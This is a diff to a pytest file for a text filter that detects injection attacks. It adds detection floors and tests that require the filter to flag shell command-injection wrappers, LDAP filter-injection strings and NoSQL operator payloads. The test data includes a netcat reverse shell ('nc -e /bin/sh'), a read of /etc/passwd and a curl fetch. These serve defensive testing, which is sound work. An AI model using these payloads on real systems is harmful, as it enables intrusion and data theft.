@@ -36,6 +36,18 @@ PASSES: Final = (
     "insert coin, delete from memory what you like",
     "ada@example.com, o'neill@example.org",
     "",
+    "A command-line tool for backups",
+    "`rm -fr` in Node; finds files, a wrapper around `find`",
+    "On top of `fetch` and of `hostname`, with window.open in React",
+    "Less @import statements in each file; write (Acrobat) files",
+    "Learn JavaScript: A first course",
+    "SSH / serial / SFTP",
+    "> as I said yesterday",
+    "a module for time() and sleep() and exec()",
+    "the [[Call]] method and {loader,plugin}",
+    "P&ID drawings; R&D | Echo Dot; ID 4411",
+    "see sysusers.d, and Option<T> of Rust",
+    "-- Ada, toJSON (for reports)",
 )
 """Sentences of people."""
 
@@ -44,16 +56,18 @@ FLOORS: Final = {
     "sqli_libinjection": 95,
     "sqli_patt": 89,
     "sqli_payloadbox": 91,
-    "cmdi_httpparams": 87,
-    "cmdi_patt": 85,
-    "mixed_blns_attack": 93,
-    "nosqli_patt": 80,
+    "cmdi_httpparams": 97,
+    "cmdi_patt": 95,
+    "ldap_patt": 50,
+    "mixed_blns_attack": 95,
+    "nosqli_patt": 100,
+    "path_httpparams": 90,
     "path_patt": 98,
-    "ssti_patt": 95,
+    "ssti_patt": 98,
     "xss_httpparams": 97,
     "xss_libinjection": 97,
     "xss_patt": 97,
-    "xxe_patt": 92,
+    "xxe_patt": 95,
 }
 """Percent of each set's sample that the patterns alone reject in a field of one line."""
 
@@ -99,6 +113,95 @@ def test_the_patterns_reject_at_least_so_many_of_each_set(name: str) -> None:
     texts = texts_of(name)
     rejected = sum(bool(found(text)) for text in texts)
     assert 100 * rejected / len(texts) >= FLOORS[name]
+
+
+SHELLS: Final = (
+    ";{}",
+    "|{}",
+    "&&{}",
+    "&{}&",
+    "%0a{}",
+    "%0D{}",
+    "\\n{}\\n",
+    "a);{}",
+    "a;{};",
+    "x||{}",
+    "`{}`",
+    "$({})",
+    "x$({})",
+    "1.2.3.4; {}",
+    "1.2.3.4 | {}",
+    '" && {} && "',
+    "'; {}; '",
+    '"; {} #',
+    "A=$'{}';$A",
+    ";system('{}')",
+)
+"""What is around a command so that a shell runs it."""
+
+COMMANDS: Final = (
+    "id",
+    "whoami",
+    "uname -a",
+    "cat /etc/passwd",
+    "ls -la",
+    "sleep 5",
+    "ping -c 3 127.0.0.1",
+    "ps aux",
+    "dir",
+    "curl http://example.com/x",
+    "echo pwned",
+    "nc -e /bin/sh 10.0.0.1 4444",
+    "ipconfig /all",
+    "net user",
+    "env",
+)
+
+
+@pytest.mark.parametrize("shell", SHELLS)
+def test_a_command_is_found_in_whatever_makes_a_shell_run_it(shell: str) -> None:
+    assert [each for each in COMMANDS if not found(shell.format(each))] == []
+
+
+FILTERS: Final = (
+    "*)(uid=*))(|(uid=*",
+    "admin)(&)",
+    "admin)(!(&(1=0",
+    "*)(cn=*",
+    "(sAMAccountName=*)",
+    "userPassword:2.5.13.18:=x",
+    "\\2a\\29",
+    "x)(memberOf=cn=admins",
+    "(userAccountControl:1.2.840.113556.1.4.803:=2)",
+    "*",
+    "*/*",
+)
+
+
+@pytest.mark.parametrize("text", FILTERS)
+def test_what_changes_a_filter_of_ldap_is_found_and_names_of_attributes_pass(text: str) -> None:
+    assert "ldap injection" in found(text)
+    assert [each for each in ("cn", "mail", "userPassword", "l") if found(each)] == []
+
+
+OPERATORS: Final = (
+    "name[$ne]=x",
+    '{"a": {"$gt": ""}}',
+    "{ $lookup: { from: 'users' } }",
+    '[{"$unionWith": "users"}]',
+    "user[$size]=1",
+    "' || 'a'=='a",
+    "'; return true; var x='",
+    "db.getCollectionNames()",
+    "tojson(this)",
+    '{"&exists": false}',
+)
+
+
+@pytest.mark.parametrize("text", OPERATORS)
+@pytest.mark.parametrize("kind", ["line", "text"])
+def test_operators_and_code_of_document_databases_are_found(text: str, kind: str) -> None:
+    assert found(text, kind)
 
 
 @pytest.mark.parametrize(
